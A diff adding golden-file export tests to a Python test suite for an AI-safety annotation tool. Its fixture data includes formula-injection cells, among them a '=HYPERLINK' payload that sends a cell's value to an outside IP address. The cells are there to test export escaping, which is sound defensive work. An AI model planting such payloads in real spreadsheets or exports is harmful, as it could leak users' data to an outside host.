@@ -166,3 +166,285 @@ def test_raw_csv_keeps_formulas_for_machines_and_jsonl_escapes_line_separators(
     assert len(text.splitlines()) == 1  # one row stays one line for every reader
     assert "\\u2028" in text and "\u2028" not in text
     assert pd.read_json(tmp_path / "i.jsonl", lines=True).loc[0, "response_text"] == rows[0]["response"]
+
+
+# ---------------------------------------------------------------------------------------
+# Golden files: the exact bytes of every export format for a fixed database
+# ---------------------------------------------------------------------------------------
+#
+# tests/data/export_golden/<backend>/ holds what the export wrote for GOLDEN_DB before it
+# was made streaming (commit 5f7ad0a, one query and one in-memory table per export); the
+# streaming export must write the same bytes (CSV, JSONL) and the same table (Parquet:
+# schema and values; the file itself has one row group per chunk). JSON columns are passed
+# through as stored, which is not the same text on SQLite and PostgreSQL, hence one folder
+# per back end. Regenerate only on purpose (a deliberate change of the output):
+# SAFEREVIEW_REGEN_GOLDEN=1 pytest tests/test_dataio_export.py -k golden
+
+GOLDEN_DIR = Path(__file__).parent / "data" / "export_golden"
+GOLDEN_PROVENANCE = {
+    "exported_at": "2025-01-02T03:04:05.678901+00:00",
+    "safereview_version": "0.0.0+golden",
+    "schema_revision": "golden",
+}
+T1 = datetime(2024, 5, 6, 7, 8, 9, 123456, tzinfo=UTC)
+T2 = datetime(2024, 5, 7, 0, 0, 0, tzinfo=UTC)  # no microseconds: isoformat drops them
+SHA = ["ab" * 32, "cd" * 32, "ef" * 32]
+
+
+def _txt(text: str) -> dict:
+    return {"modality": "text", "text": text}
+
+
+def golden_db(engine: sa.Engine) -> None:
+    """Two collections with interleaved item ids (export order is collection id, then item
+    id), one empty collection, text/image/audio/video parts, several judges (one that never
+    gives a probability, one whose id has a dot), an unparseable verdict, annotations with
+    blind labels, formula-like cells, unicode and the line separators U+2028/U+2029/U+0085."""
+    from safereview.db.models import Annotation, Collection, ImportBatch, Item, Taxonomy, User, Verdict
+
+    def t(model: type) -> sa.Table:
+        return model.__table__  # type: ignore[attr-defined]
+
+    item_defaults = {
+        "task_type": "image-text",
+        "category": "C9",
+        "subcategory": "",
+        "model": "m-1",
+        "input_modalities": "image+text",
+        "output_modalities": "text",
+        "refused": False,
+        "meta": {},
+        "priority": 0.0,
+        "slots_taken": 0,
+        "import_batch_id": 1,
+        "created_at": T1,
+    }
+    items = [
+        {
+            "id": 1,
+            "collection_id": 1,
+            "external_id": "a",
+            "prompt": [{"modality": "image", "media": SHA[0], "name": "cat.png"}, _txt('what, "is" this?')],
+            "response": [_txt("a cat\nwith a hat")],
+            "meta": {"source": "ünïcode", "n": 1, "nested": {"k": [1, 2.5, None]}},
+            "content_hash": "h1",
+        },
+        {
+            "id": 2,
+            "collection_id": 2,
+            "external_id": "b\u2028line",
+            "input_modalities": "text",
+            "prompt": [_txt('=HYPERLINK("https://203.0.113.9/?"&A1, "open")')],
+            "response": [_txt("one\u2028two\u2029three\u0085four")],
+            "content_hash": "h2",
+            "import_batch_id": 2,
+            "created_at": T2,
+        },
+        {
+            "id": 3,
+            "collection_id": 1,
+            "external_id": "c",
+            "category": "",
+            "prompt": [_txt("+SUM(1,2)"), _txt("second part")],
+            "response": [],
+            "refused": True,
+            "content_hash": "h3",
+            "import_batch_id": None,
+            "priority": 2.5,
+        },
+        {
+            "id": 4,
+            "collection_id": 1,
+            "external_id": "@evil",
+            "category": "@cat",
+            "subcategory": "-sub",
+            "model": "模型",
+            "output_modalities": "audio+image+text",
+            "prompt": [_txt("日本語 émoji 🙂")],
+            "response": [
+                _txt("-2+3"),
+                {"modality": "image", "media": SHA[1], "name": "x.png"},
+                {"modality": "audio", "media": SHA[2], "name": "y.wav"},
+            ],
+            "content_hash": "h4",
+            "priority": 1.25,
+            "slots_taken": 2,
+            "created_at": T2,
+        },
+        {
+            "id": 5,
+            "collection_id": 2,
+            "external_id": "e",
+            "prompt": [{"modality": "text"}, _txt("\ttab first")],
+            "response": [{"modality": "video", "media": SHA[2], "name": "v.mp4"}],
+            "content_hash": "h5",
+            "import_batch_id": 2,
+        },
+        {
+            "id": 6,
+            "collection_id": 1,
+            "external_id": "f",
+            "prompt": [_txt("\rcarriage")],
+            "response": [_txt("")],
+            "meta": {"quote": 'a "b" c', "list": ["x"]},
+            "content_hash": "h6",
+            "priority": -1.0,
+        },
+    ]
+    verdict_defaults = {"status": "ok", "probability": None, "judge_version": "", "created_at": T1}
+    verdicts = [
+        {"id": 1, "item_id": 1, "judge_id": "j1", "dimension": "joint", "label": "borderline", "probability": 0.5},
+        {"id": 2, "item_id": 1, "judge_id": "j2", "dimension": "joint", "label": "unsafe"},
+        {"id": 3, "item_id": 1, "judge_id": "j1", "dimension": "text", "label": "safe", "probability": 0.25},
+        {"id": 4, "item_id": 2, "judge_id": "j1", "dimension": "joint", "label": None, "status": "unparseable"},
+        {"id": 5, "item_id": 2, "judge_id": "judge.x", "dimension": "image", "label": "safe", "probability": 1.0},
+        {"id": 6, "item_id": 4, "judge_id": "j2", "dimension": "joint", "label": "safe"},
+        {"id": 7, "item_id": 4, "judge_id": "j1", "dimension": "joint", "label": "unsafe", "probability": 0.9999999},
+        {"id": 8, "item_id": 5, "judge_id": "j1", "dimension": "text", "label": "unsafe", "status": "rule"},
+        {"id": 9, "item_id": 6, "judge_id": "j1", "dimension": "joint", "label": None, "status": "error"},
+    ]
+    ann_defaults = {
+        "blind_labels": None,
+        "categories": [],
+        "rationale": "",
+        "flagged": False,
+        "verdict_action": None,
+        "verdict_judge_id": None,
+        "time_spent_s": None,
+        "source": "app",
+        "import_batch_id": None,
+        "version": 1,
+        "created_at": T1,
+        "updated_at": T1,
+    }
+    annotations = [
+        {
+            "id": 1,
+            "item_id": 1,
+            "user_id": 1,
+            "labels": {"joint": "safe"},
+            "blind_labels": {"joint": "unsafe"},
+            "categories": ["C3", "C1"],
+            "rationale": '=HYPERLINK("x")',
+            "flagged": True,
+            "verdict_action": "override",
+            "verdict_judge_id": "j1",
+            "time_spent_s": 4.5,
+            "source": "import",
+            "import_batch_id": 1,
+            "version": 2,
+            "updated_at": T2,
+        },
+        {
+            "id": 2,
+            "item_id": 1,
+            "user_id": 2,
+            "labels": {"joint": "borderline", "text": "safe"},
+            "rationale": "a\u2028b",
+        },
+        {"id": 3, "item_id": 2, "user_id": 3, "labels": {"image": "unsafe"}, "blind_labels": {}, "categories": ["C9"]},
+        {"id": 4, "item_id": 4, "user_id": 2, "labels": {}, "rationale": "-2+3 ünï", "time_spent_s": 0.1},
+        {
+            "id": 5,
+            "item_id": 6,
+            "user_id": 3,
+            "labels": {"joint": "safe"},
+            "verdict_action": "confirm",
+            "verdict_judge_id": "j1",
+            "created_at": T2,
+        },
+    ]
+    with engine.begin() as conn:
+        conn.execute(t(Taxonomy).insert(), [{"id": 1, "name": "golden", "version": "1", "spec": {}, "created_at": T1}])
+        conn.execute(
+            t(Collection).insert(),
+            [
+                {
+                    "id": cid,
+                    "name": name,
+                    "taxonomy_id": 1,
+                    "description": "",
+                    "overlap_target": 2,
+                    "blind": True,
+                    "audit_share": 0.3,
+                    "reveal_reason": "required",
+                    "protect_media": True,
+                    "break_minutes": 45,
+                    "break_unsafe_items": 40,
+                    "archived": False,
+                    "created_at": T1,
+                }
+                for cid, name in ((1, "zeta / run"), (2, "alpha / ünï"), (3, "empty"))
+            ],
+        )
+        conn.execute(
+            t(ImportBatch).insert().values(source_sha256="0" * 64, created_at=T1),
+            [
+                {"id": 1, "source": "runs/items.jsonl", "format": "generic-jsonl", "collection_id": 1},
+                {"id": 2, "source": "=vlsu.csv", "format": "vlsu", "collection_id": 2},
+            ],
+        )
+        conn.execute(
+            t(User).insert(),
+            [
+                {"id": uid, "username": name, "password_hash": "!", "role": role, "created_at": T1}
+                for uid, name, role in ((1, "zed", "annotator"), (2, "amy", "lead"), (3, "bo", "annotator"))
+            ],
+        )
+        conn.execute(t(Item).insert(), [{**item_defaults, **i} for i in items])
+        conn.execute(t(Verdict).insert(), [{**verdict_defaults, **v} for v in verdicts])
+        conn.execute(t(Annotation).insert(), [{**ann_defaults, **a} for a in annotations])
+
+
+GOLDEN_EXPORTS = {  # file stem -> (export function, collections)
+    "items": (export_items, None),
+    "items-alpha": (export_items, ["alpha / ünï"]),
+    "items-empty": (export_items, ["empty"]),
+    "annotations": (export_annotations, None),
+    "annotations-empty": (export_annotations, ["empty"]),
+}
+# Parquet columns whose type is taken from the data (a column with no value at all in the
+# export is written as string): column -> the type expected instead of the golden file's.
+TYPED_WHEN_EMPTY: dict[str, str] = {}
+
+
+@pytest.fixture
+def golden(engine: sa.Engine, monkeypatch: pytest.MonkeyPatch) -> tuple[sa.Engine, Path]:
+    import safereview.dataio.export as export_mod
+
+    golden_db(engine)
+    monkeypatch.setattr(export_mod, "_provenance", lambda _engine: dict(GOLDEN_PROVENANCE))
+    return engine, GOLDEN_DIR / engine.dialect.name
+
+
+@pytest.mark.parametrize("stem", sorted(GOLDEN_EXPORTS))
+@pytest.mark.parametrize("fmt", ["jsonl", "csv", "parquet"])
+def test_export_matches_golden_files(golden: tuple[sa.Engine, Path], tmp_path: Path, fmt: str, stem: str) -> None:
+    import os
+
+    import pyarrow.parquet as pq
+
+    engine, folder = golden
+    fn, collections = GOLDEN_EXPORTS[stem]
+    out = tmp_path / f"{stem}.{fmt}"
+    fn(engine, out, fmt, collections=collections)
+    expected = folder / f"{stem}.{fmt}"
+    if os.environ.get("SAFEREVIEW_REGEN_GOLDEN") == "1":
+        expected.parent.mkdir(parents=True, exist_ok=True)
+        expected.write_bytes(out.read_bytes())
+    if fmt != "parquet":
+        assert out.read_bytes() == expected.read_bytes()
+        return
+    got, want = pq.read_table(out), pq.read_table(expected)
+    assert got.column_names == want.column_names
+    if stem.endswith("-empty"):  # no rows: the old writer typed every column as string
+        assert want.num_rows == got.num_rows == 0
+        return
+    for name, type_name in TYPED_WHEN_EMPTY.items():
+        if name in want.column_names:
+            assert str(want.schema.field(name).type) == "string" and want.column(name).null_count == want.num_rows
+            assert str(got.schema.field(name).type) == type_name and got.column(name).null_count == got.num_rows
+            i = want.column_names.index(name)
+            want = want.set_column(i, got.schema.field(name), got.column(name))
+    assert got.schema.equals(want.schema, check_metadata=True)
+    assert got.equals(want)
